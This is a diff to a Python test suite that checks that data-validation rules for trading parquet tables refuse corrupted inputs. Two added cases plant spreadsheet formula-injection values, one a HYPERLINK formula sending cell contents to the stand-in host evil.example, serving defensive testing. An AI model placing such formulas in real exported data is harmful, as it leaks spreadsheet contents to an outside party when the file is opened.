@@ -132,6 +132,14 @@ ALPHA_CASES: list[tuple[str, str, Callable[[Path], None]]] = [
     ("schema.columns", "decisions", drop_column("decisions.parquet", "average_rank")),
     ("schema.not_null", "positions", null_cell("positions/long_short.parquet", "quantity")),
     ("schema.date_range", "pnl", far_date("pnl/long_short.parquet", "date", 3_000_000)),
+    (
+        "symbols.ticker_pattern",
+        "positions",
+        on(
+            "positions/long_only.parquet",
+            set_cell("symbol", 3, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'),
+        ),
+    ),
     ("rebalances.unique_dates", "rebalances", on("rebalances.parquet", duplicate_first_row)),
     (
         "rebalances.week_status_values",
@@ -164,6 +172,11 @@ ALPHA_CASES: list[tuple[str, str, Callable[[Path], None]]] = [
                 for c in ("direction", "confidence")
             ),
         ),
+    ),
+    (
+        "decisions.reason_values",
+        "decisions",
+        on("decisions.parquet", set_cell("decision_reason", 5, "@SUM(A1)")),
     ),
     (
         "decisions.untradeable_has_zero_weights_and_reason",
@@ -293,7 +306,15 @@ def test_benchmark_close_must_be_positive(tmp_path: Path, benchmark_seal: Path) 
 
 
 # Rules whose refusals are tested in their own module (the seal's files, before any table is read).
-TESTED_ELSEWHERE = {"seal.regular_files": "test_seal_ownership.py", "seal.size_limits": "test_seal_limits.py"}
+TESTED_ELSEWHERE = {
+    "seal.regular_files": "test_seal_ownership.py",
+    "seal.size_limits": "test_seal_limits.py",
+    **{
+        f"{kind}.{rule}": "test_seal_text.py"
+        for kind in ("manifest", "description")
+        for rule in ("text_bounds", "no_bidi_controls")
+    },
+}
 
 
 def test_every_rule_has_a_refusal_test() -> None:
